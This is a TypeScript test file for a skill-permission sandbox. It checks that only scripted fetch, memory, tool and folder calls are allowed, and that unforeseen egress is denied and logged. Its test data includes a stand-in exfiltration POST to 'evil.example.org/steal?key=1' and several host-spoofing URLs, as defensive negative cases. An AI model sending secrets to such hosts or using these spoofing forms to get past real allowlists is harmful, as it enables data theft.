import { describe, expect, it } from 'vitest';

import { checkReplies, scriptedPowers } from '../../../../domain/skills/case-replies.ts';
import { SkillPermissions } from '../../../../domain/skills/manifest.ts';

const url = 'https://api.example.org/x';
const signal = new AbortController().signal;

describe('scripted replies', () => {
  it('answer the call they are for, once each, whatever the order of its fields', async () => {
    const powers = scriptedPowers([
      { power: 'fetch', input: { url, method: 'GET' }, reply: { status: 200 } },
      { power: 'fetch', input: { url, method: 'GET' }, reply: { status: 500 } },
    ]);
    expect(await powers.call('fetch', { method: 'GET', url }, signal)).toEqual({ status: 200 });
    expect(await powers.call('fetch', { method: 'GET', url }, signal)).toEqual({ status: 500 });
    await expect(powers.call('fetch', { method: 'GET', url }, signal)).rejects.toMatchObject({
      code: 'PERMISSION_DENIED',
    });
    expect(powers.egress().map(({ host, allowed }) => [host, allowed])).toEqual([
      ['api.example.org', true],
      ['api.example.org', true],
      ['api.example.org', false],
    ]);
  });

  it('deny and record every call they do not foresee', async () => {
    const powers = scriptedPowers([]);
    const evil = { url: 'https://evil.example.org/steal?key=1', method: 'POST' };
    await expect(powers.call('fetch', evil, signal)).rejects.toMatchObject({ code: 'PERMISSION_DENIED' });
    await expect(powers.call('memory', { query: 'x' }, signal)).rejects.toMatchObject({ code: 'PERMISSION_DENIED' });
    expect(powers.egress()).toEqual([
      { host: 'evil.example.org', method: 'POST', allowed: false, bytes: 0, reason: 'not scripted by the case' },
    ]);
  });

  it.each([
    ['fetch', { url }, { hosts: ['api.example.org'] }],
    ['memory', { query: 'x' }, { memory: 'read' }],
    ['tool', { name: 'calc' }, { tools: ['calc'] }],
    ['folder', { name: 'inbox', action: 'list', path: '' }, { folders: [{ name: 'inbox', access: 'read' }] }],
  ] as const)('of %s are allowed only with its permission', (power, input, permissions) => {
    const replies = [{ power, input, reply: null }];
    expect(checkReplies(replies, SkillPermissions.parse(permissions))).toEqual([]);
    expect(checkReplies(replies, SkillPermissions.parse({}))).toHaveLength(1);
  });

  it.each([
    'http://api.example.org/',
    'https://api.example.org@evil.org/',
    'https://api.example.org:8443/',
    'https://api.example.org.evil.org',
  ])('of fetch do not take %s for the host that is named', (address) => {
    const permissions = SkillPermissions.parse({ hosts: ['api.example.org'] });
    expect(checkReplies([{ power: 'fetch', input: { url: address }, reply: null }], permissions)).toHaveLength(1);
  });
});
